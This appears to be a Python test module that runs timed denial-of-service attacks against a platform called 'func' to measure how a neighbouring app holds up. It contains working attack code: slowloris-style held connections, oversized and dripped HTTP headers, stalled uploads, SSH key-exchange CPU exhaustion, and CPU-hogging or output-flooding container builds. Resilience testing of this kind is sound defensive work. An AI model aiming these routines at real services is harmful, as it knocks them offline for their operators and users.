"""What strangers and pushers do to func while others use it: each attack goes on for some seconds, then ends."""

import os
import socket
import struct
import threading
import time

from .failure import Unmeasured
from .neighbour import APP

HEAD_BYTES = 1024 * 1024
# As many as func lets in with 20,000 file descriptors, of which it keeps some, less a few for the warm app's visitors.
SLOW = 8_800
# One address of the loopback network has so many of them.
SLOW_OF_ONE = 500
BUSY = "FROM busybox:stable\nRUN timeout 60 sh -c 'yes >/dev/null & yes >/dev/null & yes >/dev/null & yes >/dev/null & sleep 20'\n"
FLOOD = (
    "FROM busybox:stable\nRUN mkdir /www && echo hello >/www/index.html\n"
    "CMD [\"sh\", \"-c\", \"httpd -p $PORT -h /www; exec yes it is printed without an end\"]\n"
)


class Attacker:
    """Attacks one server; `seconds` is how long each goes on."""

    def __init__(self, server, seconds):
        self.server, self.seconds, self.held = server, seconds, []
        host, _, port = server.info["ssh"].rpartition("/")[2].rpartition(":")
        self.ssh = (host.rpartition("@")[2], int(port))

    def at_once(self, number, act):
        """Does `act` in so many threads, each again and again until the time is over."""
        end = time.monotonic() + self.seconds

        def again():
            while time.monotonic() < end:
                try:
                    act(end)
                except OSError:
                    time.sleep(0.02)

        threads = [threading.Thread(target=again, daemon=True) for _ in range(number)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(self.seconds + 30)

    def prepare(self, name):
        """Does what an attack does before it is measured."""
        if name == "slow_connections":
            self.open_slow()

    def leave(self):
        for connection in self.held:
            connection.close()
        self.held = []

    def open_slow(self):
        for number in range(SLOW):
            source = ("127.7.0.%d" % (1 + number // SLOW_OF_ONE), 0)
            connection = socket.create_connection(self.server.edge, timeout=self.seconds, source_address=source)
            if number % 2:
                connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + b"x" * 1000)
            self.held.append(connection)
        # They stand then: what their arrival costs is another figure.
        time.sleep(1)

    def slow_connections(self):
        """Thousands of connections stand: half of them with a part of a head, half without a word."""
        time.sleep(self.seconds)
        standing = sum(not is_over(connection) for connection in self.held)
        if standing < SLOW:
            raise Unmeasured(f"only {standing} of {SLOW} connections stood until the end")

    def quiet(self):
        time.sleep(self.seconds)

    def group18(self):
        self.at_once(4, lambda end: handshake(self.ssh, "diffie-hellman-group18-sha512", 30, mpint(os.urandom(1024)), end))

    def curve25519(self):
        self.at_once(4, lambda end: handshake(self.ssh, "curve25519-sha256", 30, text(os.urandom(32)), end))

    def long_heads(self):
        """200 connections with a megabyte of an unfinished head."""
        self.at_once(200, self.long_head)

    def long_head(self, end):
        with socket.create_connection(self.server.edge, timeout=self.seconds) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + b"x" * HEAD_BYTES)
            wait(connection, end)

    def dripped_head(self, end):
        """A byte a packet into a long head."""
        with socket.create_connection(self.server.edge, timeout=self.seconds) as connection:
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + b"x" * 30000)
            while time.monotonic() < end:
                connection.sendall(b"x")
                time.sleep(0.0005)

    def dripped_heads(self):
        self.at_once(4, self.dripped_head)

    def half_uploads(self):
        """200 uploads of which nothing comes."""
        self.at_once(200, self.half_upload)

    def half_upload(self, end):
        host = self.server.host(APP)
        with socket.create_connection(self.server.edge, timeout=self.seconds) as connection:
            connection.sendall(f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000000\r\n\r\n".encode())
            wait(connection, end)

    def output_flood(self):
        """An app that prints without an end."""
        self.push("flood", {"Dockerfile": FLOOD})
        time.sleep(self.seconds)

    def busy_build(self):
        """A build that takes all processors that it gets."""
        push = threading.Thread(target=self.push, args=("busy", {"Dockerfile": BUSY}), daemon=True)
        push.start()
        time.sleep(self.seconds)

    def push(self, app, files):
        repository = self.server.repository(f"{app}-{os.urandom(3).hex()}")
        repository.commit(files)
        try:
            repository.push()
        except Unmeasured:
            pass  # func may refuse it: that is a defence as well


def wait(connection, end):
    """Waits until the other side closes, or the time is over."""
    connection.settimeout(max(0.01, end - time.monotonic()))
    try:
        while connection.recv(4096):
            pass
    except TimeoutError:
        pass


def is_over(connection):
    """Whether the other side has closed, or refused."""
    connection.setblocking(False)
    try:
        connection.recv(1)
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def text(value):
    return struct.pack(">I", len(value)) + value


def mpint(value):
    return text(b"\0" + value)


def packet(payload):
    """Source: RFC 4253, section 6, without encryption."""
    padding = 8 - (len(payload) + 5) % 8
    padding += 8 if padding < 4 else 0
    return struct.pack(">IB", len(payload) + padding + 1, padding) + payload + os.urandom(padding)


def handshake(address, algorithm, number, public, end):
    """Opens an SSH connection as far as nobody need be known: the key exchange. Source: RFC 4253, sections 7 and 8."""
    names = [algorithm, "ssh-ed25519", *["aes256-gcm@openssh.com,aes256-ctr"] * 2, *["hmac-sha2-256"] * 2, *["none"] * 2]
    lists = b"".join(text(name.encode()) for name in [*names, "", ""])
    with socket.create_connection(address, timeout=10) as connection:
        connection.sendall(b"SSH-2.0-attack\r\n")
        connection.sendall(packet(b"\x14" + os.urandom(16) + lists + b"\0" + b"\0\0\0\0"))
        connection.sendall(packet(bytes([number]) + public))
        connection.settimeout(max(0.01, min(5.0, end - time.monotonic())))
        received, want = 0, 1500
        while received < want and (more := connection.recv(4096)):
            received += len(more)
